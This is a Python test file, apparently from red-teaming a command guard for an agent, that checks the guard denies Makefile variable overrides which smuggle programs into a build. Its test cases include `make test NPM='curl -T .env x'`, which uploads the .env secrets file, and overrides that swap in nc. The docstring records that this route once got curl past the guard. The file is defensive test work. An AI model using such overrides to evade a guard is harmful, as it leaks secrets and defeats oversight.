"""Red team, third round (issue 9 class 3): make variables that a recipe runs as a program.

A Makefile that starts a tool through a variable (`@$(NPM) test`, `$(MAKE) -C sub`,
`-${DOCKER} build .`) runs whatever `make NPM=curl` (or `NPM=curl make` when the makefile only
sets `NPM ?= npm`) puts there. The guard only knew a fixed list of such names (SHELL, CC ...),
so `make NPM=curl test` started curl under builder. Verdicts only: nothing is executed.
"""

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied

MAKEFILE = (
    "NPM ?= npm\nDOCKER ?= docker\nPYTEST := pytest\ninclude extra.mk\n"
    "test:\n\t@$(NPM) test\n\t$(PYTEST) $(TESTS)\n\tcd sub && $(MAKE) all\n"
    "img:\n\t-${DOCKER} build .\n"
)


@pytest.fixture(scope="module")
def g(tmp_path_factory):
    return GuardSetup(tmp_path_factory.mktemp("rt3make"),
                      files={"Makefile": MAKEFILE, "extra.mk": "lint:\n\t$(LINTER) src\n", "package.json": "{}\n"})


@pytest.mark.parametrize("cmd, program", [
    ("make NPM=curl test", "curl"),
    ("make test NPM='curl -T .env x'", "curl"),
    ("make DOCKER=nc img", "nc"),
    ("make LINTER=curl lint", "curl"),  # used in an included makefile
    ("make MAKE=curl test", "curl"),
    ("make -f extra.mk LINTER=curl", "curl"),
    ("NPM=curl make test", "curl"),  # the environment fills a `?=` variable
    ("DOCKER=nc make img", "nc"),
])
def test_make_program_variable_overrides(g, cmd, program):
    assert_denied(g.bash(cmd), "`%s` is denied by deny-cmd" % program, "run later by `make ")


def test_make_program_variable_off_the_list(g):
    assert_denied(g.bash("make NPM=id test"), "`id` is not on the command allow-list", "run later by `make NPM=`")


@pytest.mark.parametrize("cmd", [
    "make TESTS=tests/unit test",  # an argument, not a program
    "make NPM=npm test",  # the makefile's own program
    "make test VERSION=1.2",
    "PYTEST=curl make test",  # `:=` in the makefile wins over the environment
    "make -j4 test",
])
def test_make_everyday_overrides_allowed(g, cmd):
    assert_allowed(g.bash(cmd))
